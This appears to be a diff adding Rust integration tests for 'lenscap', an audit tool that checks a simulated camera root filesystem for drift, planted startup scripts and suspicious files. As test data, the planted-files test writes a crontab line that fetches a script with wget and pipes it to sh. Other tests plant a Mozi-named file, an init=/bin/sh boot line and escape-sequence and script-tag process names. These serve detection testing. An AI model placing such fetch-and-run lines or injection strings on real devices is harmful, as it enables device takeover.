@@ -1,0 +1,387 @@
+//! A running camera: the program and a `/proc` as the kernel would show it, below a new root.
+
+use std::fs;
+use std::os::unix::ffi::OsStrExt as _;
+use std::os::unix::fs::{PermissionsExt as _, symlink};
+use std::time::{Duration, Instant};
+
+use super::*;
+
+const HEAD: &str =
+    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n";
+
+struct Camera(tempfile::TempDir);
+
+impl Camera {
+    fn new(name: &str) -> Self {
+        let camera = Self(fixture(name));
+        let list = String::from_utf8(run("ldd", &[LENSCAP]).stdout).unwrap();
+        let libraries = list.split_whitespace().filter(|word| word.starts_with('/'));
+        for file in libraries.chain([LENSCAP]) {
+            let target = if file == LENSCAP {
+                "lenscap"
+            } else {
+                file.trim_start_matches('/')
+            };
+            camera.write(target, fs::read(file).unwrap());
+            let mode = fs::Permissions::from_mode(0o755);
+            fs::set_permissions(camera.path(target), mode).unwrap();
+        }
+        for (path, text) in [
+            ("proc/mounts", "/dev/mtdblock3 / jffs2 rw 0 0\n"),
+            ("proc/modules", ""),
+            ("proc/meminfo", "MemTotal: 60000 kB\nMemAvailable: 30000 kB\n"),
+            ("proc/sys/kernel/osrelease", "6.12.1\n"),
+            ("proc/sys/net/ipv6/conf/all/disable_ipv6", "1\n"),
+            ("dev/null", ""),
+            ("var/log/messages", "fine\n"),
+        ] {
+            camera.write(path, text);
+        }
+        for table in ["tcp", "tcp6", "udp", "udp6", "raw", "raw6", "packet"] {
+            camera.write(&format!("proc/net/{table}"), HEAD);
+        }
+        camera.process(1, "/bin/busybox", b"init", b"init", &[]);
+        fs::create_dir_all(camera.path("tmp")).unwrap();
+        camera
+    }
+
+    fn path(&self, path: &str) -> PathBuf {
+        self.0.path().join(path)
+    }
+
+    fn write(&self, path: &str, contents: impl AsRef<[u8]>) {
+        let path = self.path(path);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, contents).unwrap();
+    }
+
+    fn process(&self, pid: u32, exe: &str, name: &[u8], words: &[u8], inodes: &[u64]) {
+        let folder = format!("proc/{pid}");
+        fs::create_dir_all(self.path(&folder).join("fd")).unwrap();
+        self.write(&format!("{folder}/comm"), [name, b"\n"].concat());
+        self.write(&format!("{folder}/cmdline"), words);
+        self.write(&format!("{folder}/status"), "Uid:\t0\t0\t0\t0\n");
+        symlink(exe, self.path(&folder).join("exe")).unwrap();
+        for (number, inode) in inodes.iter().enumerate() {
+            symlink(
+                format!("socket:[{inode}]"),
+                self.path(&folder).join("fd").join(number.to_string()),
+            )
+            .unwrap();
+        }
+    }
+
+    fn listen(&self, port: u16, inode: u64) {
+        self.socket("tcp", &format!("00000000:{port:04X} 00000000:0000 0A"), inode);
+    }
+
+    fn socket(&self, table: &str, ends: &str, inode: u64) {
+        let path = self.path(&format!("proc/net/{table}"));
+        let mut text = fs::read_to_string(&path).unwrap();
+        text.push_str(&format!(
+            "   0: {ends} 00000000:00000000 00:00000000 00000000 0 0 {inode} 1\n"
+        ));
+        fs::write(path, text).unwrap();
+    }
+
+    fn audit(&self, args: &[&str]) -> Output {
+        let root = self.0.path().to_str().unwrap();
+        run("chroot", &[&[root, "/lenscap", "audit"], args].concat())
+    }
+
+    fn report(&self) -> Value {
+        report(&self.audit(&["--json"]))
+    }
+}
+
+#[test]
+fn a_closed_camera_has_a_baseline_and_what_is_new_is_told() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openmiko");
+    let root = camera.0.path().to_str().unwrap();
+    let first = camera.report();
+    assert_eq!(verdict(&first, "account.default"), "fail");
+    assert_eq!(verdict(&first, "network.drift"), "notchecked");
+    let baseline = camera.path("etc/lenscap/audit.baseline");
+    assert!(!baseline.exists(), "an open camera is no baseline");
+
+    // The program itself holds the word telnetd: unknown, and no fail.
+    assert_eq!(
+        code(&run(LENSCAP, &["harden", "--root", root, "--password", "lock"])),
+        2
+    );
+    camera.listen(554, 77);
+    camera.process(50, "/bin/busybox", b"streamer", b"streamer", &[77]);
+    let second = camera.report();
+    let fails = second["rules"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|rule| rule["verdict"] == "fail");
+    let fails: Vec<&str> = fails.map(|rule| rule["id"].as_str().unwrap()).collect();
+    assert!(baseline.exists(), "a clean camera is: {fails:?}");
+    assert_eq!(
+        fs::metadata(&baseline).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+    let kept = fs::read_to_string(&baseline).unwrap();
+    assert!(kept.contains("listen tcp 0.0.0.0 554 /bin/busybox\n"), "{kept}");
+    for id in [
+        "network.drift",
+        "account.drift",
+        "start.drift",
+        "network.peer-drift",
+    ] {
+        assert_eq!(verdict(&camera.report(), id), "pass", "{id}");
+    }
+
+    camera.listen(8080, 78);
+    symlink("socket:[78]", camera.path("proc/50/fd/9")).unwrap();
+    camera.socket("tcp", "0200000A:C001 0A7100CB:01BB 01", 79);
+    symlink("socket:[79]", camera.path("proc/50/fd/10")).unwrap();
+    camera.write("etc/init.d/S99x", "#!/bin/sh\n: x\n");
+    camera.write("etc/crontabs/root", "*/5 * * * * /usr/bin/x\n");
+    let mut passwd = fs::read_to_string(camera.path("etc/passwd")).unwrap();
+    passwd.push_str("new:!:1000:1000::/:/bin/sh\n");
+    camera.write("etc/passwd", passwd);
+    let third = camera.report();
+    for (id, what) in [
+        ("network.drift", "listen tcp 0.0.0.0 8080 /bin/busybox"),
+        ("account.drift", "account /etc/passwd new 1000"),
+        ("start.drift", "start /etc/init.d/S99x"),
+        ("start.drift", "start /etc/crontabs/root: */5 * * * * /usr/bin/x"),
+        ("network.peer-drift", "peer tcp 203.0.113.10 443 /bin/busybox"),
+    ] {
+        assert_eq!(verdict(&third, id), "fail", "{id}");
+        assert!(
+            evidence(&third, id).contains(what),
+            "{what}: {}",
+            evidence(&third, id)
+        );
+    }
+    assert_eq!(fs::read_to_string(&baseline).unwrap(), kept, "it stays as it was");
+    camera.audit(&["--accept"]);
+    assert_eq!(verdict(&camera.report(), "network.drift"), "pass");
+    fs::write(&baseline, "damage").unwrap();
+    assert_eq!(verdict(&camera.report(), "network.drift"), "unknown");
+}
+
+#[test]
+fn a_hidden_proc_makes_nothing_well() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("busybox");
+    fs::remove_dir_all(camera.path("proc")).unwrap();
+    fs::create_dir_all(camera.path("proc")).unwrap();
+    let report = camera.report();
+    assert_eq!(report["verdict"], "fail", "files tell enough");
+    for rule in report["rules"].as_array().unwrap() {
+        let id = rule["id"].as_str().unwrap();
+        let live = ["trace.", "service.", "network."]
+            .iter()
+            .any(|group| id.starts_with(group));
+        if live
+            && !matches!(
+                id,
+                "trace.preload" | "trace.file" | "trace.log" | "network.drift" | "network.peer-drift"
+            )
+        {
+            assert_eq!(rule["verdict"], "unknown", "{rule}");
+        }
+    }
+}
+
+#[test]
+fn absurd_names_are_told_and_do_nothing() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("busybox");
+    let names: [&[u8]; 4] = [
+        b"\x1b[2J\x1b]0;owned\x07",
+        b"two\nlines) R 1 1",
+        b"\xff\xfe\xfd",
+        b"<script>alert(1)</script>",
+    ];
+    for (number, name) in names.iter().enumerate() {
+        let pid = 100 + u32::try_from(number).unwrap();
+        let inode = u64::from(pid);
+        camera.listen(48_101 + u16::try_from(number).unwrap(), inode);
+        let exe = std::ffi::OsStr::from_bytes(b"/tmp/\xff\x1b[2J\n (deleted)");
+        camera.process(
+            pid,
+            exe.to_str().unwrap_or("/tmp/x (deleted)"),
+            name,
+            name,
+            &[inode],
+        );
+        let odd = camera.path("tmp").join(
+            std::ffi::OsStr::from_bytes(&[b"evil", *name].concat())
+                .to_str()
+                .map_or("plain".into(), |name| name.replace('/', "_")),
+        );
+        fs::write(odd, "\x7fELF").unwrap();
+    }
+    fs::remove_file(camera.path("proc/101/exe")).unwrap();
+    symlink(
+        std::ffi::OsStr::from_bytes(b"/tmp/\xff\x1b[2J\n (deleted)"),
+        camera.path("proc/101/exe"),
+    )
+    .unwrap();
+    for format in ["text", "json", "html", "xccdf", "cyclonedx"] {
+        let output = camera.audit(&["--format", format, "--details"]);
+        assert_eq!(code(&output), 1, "{output:?}");
+        let text = String::from_utf8(output.stdout).unwrap();
+        assert!(!text.contains(|c: char| c.is_control() && c != '\n'), "{format}");
+        let markup = matches!(format, "html" | "xccdf");
+        assert!(!(markup && text.contains("<script")), "{format}");
+    }
+    let report = camera.report();
+    assert_eq!(verdict(&report, "trace.port"), "fail");
+    assert_eq!(verdict(&report, "trace.file"), "fail");
+    let deleted = rule(&report, "trace.deleted")["evidence"].as_array().unwrap();
+    assert_eq!(deleted.iter().filter(|one| one["verdict"] == "fail").count(), 4);
+}
+
+/// The most memory that the program may map, in KiB: tables of any size must fit.
+const MAX_ADDRESS_SPACE_KIB: u32 = 64 * 1024;
+
+#[test]
+fn a_million_sockets_end_in_time_and_memory() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("busybox");
+    let line = "   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1000 1 0000000000000000 100 0 0 10 0\n";
+    let table = format!("{HEAD}{}", line.repeat(1_000_000));
+    camera.write("proc/net/tcp", &table);
+    for name in ["tcp6", "udp", "raw"] {
+        let link = camera.path(&format!("proc/net/{name}"));
+        fs::remove_file(&link).unwrap();
+        fs::hard_link(camera.path("proc/net/tcp"), link).unwrap();
+    }
+    // A line without an end, and a table that is none.
+    camera.write("proc/net/udp6", "x".repeat(30_000_000));
+    camera.write("proc/net/packet", vec![0xff; 1_000_000]);
+    for pid in 1000..2200 {
+        camera.process(pid, "/bin/busybox", b"x", &[b'x'; 100_000][..4096], &[]);
+    }
+    for number in 0..5000 {
+        camera.write(&format!("tmp/f{number}"), "x");
+    }
+    let started = Instant::now();
+    let root = camera.0.path().to_str().unwrap();
+    let command =
+        format!("ulimit -v {MAX_ADDRESS_SPACE_KIB}; exec chroot {root} /lenscap audit --json --no-probe");
+    let output = run("sh", &["-c", &command]);
+    let took = started.elapsed();
+    assert!(took < Duration::from_secs(60), "{took:?}");
+    let report = report(&output);
+    println!("{took:?}, {} bytes of report", output.stdout.len());
+    assert!(output.stdout.len() < 1 << 20);
+    for id in ["trace.port", "trace.deleted", "network.owner", "trace.file"] {
+        assert_ne!(verdict(&report, id), "pass", "{id}");
+    }
+    assert!(evidence(&report, "trace.port").contains("sockets were not looked at"));
+    assert!(evidence(&report, "trace.port").contains("lines make no sense"));
+}
+
+#[test]
+fn planted_files_are_found() {
+    if without_root() {
+        return;
+    }
+    let camera = Camera::new("openwrt");
+    let overlay = "/dev/mtdblock6 /overlay jffs2 rw 0 0\noverlayfs:/overlay / overlay rw,lowerdir=/,upperdir=/overlay/upper,workdir=/overlay/work 0 0\n";
+    camera.write(
+        "proc/mounts",
+        format!("{overlay}/dev/mmcblk0p1 /mnt/card vfat rw 0 0\n"),
+    );
+    let script = "#!/bin/sh\n: x\n";
+    // In the firmware; in a package; in the overlay alone.
+    for (name, lower, listed) in [
+        ("S10own", true, false),
+        ("S20package", false, true),
+        ("S99evil", false, false),
+    ] {
+        camera.write(&format!("etc/init.d/{name}"), script);
+        if lower {
+            camera.write(&format!("rom/etc/init.d/{name}"), script);
+        } else {
+            camera.write(&format!("overlay/upper/etc/init.d/{name}"), script);
+        }
+        if listed {
+            camera.write("usr/lib/opkg/info/package.list", format!("/etc/init.d/{name}\n"));
+        }
+    }
+    for name in ["telnet", "rcS"] {
+        camera.write(&format!("rom/etc/init.d/{name}"), script);
+    }
+    let pem = "-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\n";
+    camera.write("etc/own.key", pem);
+    camera.write("overlay/upper/etc/own.key", pem);
+    camera.write("etc/series.key", pem);
+    camera.write(
+        "etc/crontabs/root",
+        "# fine\n*/5 * * * * wget -qO- http://192.0.2.1/x | sh\n0 3 * * * /tmp/.x/run\n",
+    );
+    camera.write("tmp/.x/run", "\x7fELF");
+    camera.write("tmp/Mozi.m", "x");
+    camera.write("proc/cmdline", "console=ttyS0 init=/bin/sh\n");
+    camera.write("proc/modules", "sensor 1 0 - Live 0\nhidden_one 1 0 - Live 0\n");
+    camera.write("lib/modules/6.12.1/sensor.ko", "x");
+    camera.write(
+        "var/log/messages",
+        "dropbear[7]: Bad password attempt for 'root' from 192.0.2.9\n",
+    );
+    camera.process(
+        60,
+        "/usr/bin/dropbear",
+        b"dropbear",
+        b"dropbear\0-s\0-p\x0022",
+        &[],
+    );
+    fs::set_permissions(
+        camera.path("etc/init.d/S10own"),
+        fs::Permissions::from_mode(0o777),
+    )
+    .unwrap();
+    let report = camera.report();
+    for (id, verdict_of, what) in [
+        ("start.added", "fail", "/etc/init.d/S99evil"),
+        ("start.download", "fail", "fetches and runs"),
+        ("start.download", "fail", "runs `/tmp/.x/run`"),
+        ("start.loader", "fail", "init=/bin/sh"),
+        ("start.console", "fail", "/etc/inittab:3"),
+        ("start.writable", "fail", "/etc/init.d/S10own"),
+        ("trace.file", "fail", "/tmp/.x/run"),
+        ("trace.file", "fail", "/tmp/Mozi.m"),
+        ("trace.module", "unknown", "hidden_one"),
+        ("trace.log", "fail", "1 failed logins"),
+        ("account.key", "fail", "/etc/series.key"),
+        ("account.ssh", "pass", "keys alone"),
+        ("system.mount", "fail", "/mnt/card"),
+        ("system.storage", "pass", "KiB are free"),
+        ("account.service", "unknown", "is not known"),
+    ] {
+        assert_eq!(verdict(&report, id), verdict_of, "{id}: {}", rule(&report, id));
+        assert!(
+            evidence(&report, id).contains(what),
+            "{what}: {}",
+            evidence(&report, id)
+        );
+    }
+    let added = evidence(&report, "start.added");
+    assert!(
+        !added.contains("S10own") && !added.contains("S20package"),
+        "{added}"
+    );
+    let keys = rule(&report, "account.key")["evidence"].as_array().unwrap();
+    let own = keys.iter().find(|key| key["source"] == "/etc/own.key").unwrap();
+    assert_eq!(own["verdict"], "pass");
+    assert!(!evidence(&report, "trace.module").contains("sensor"));
+}
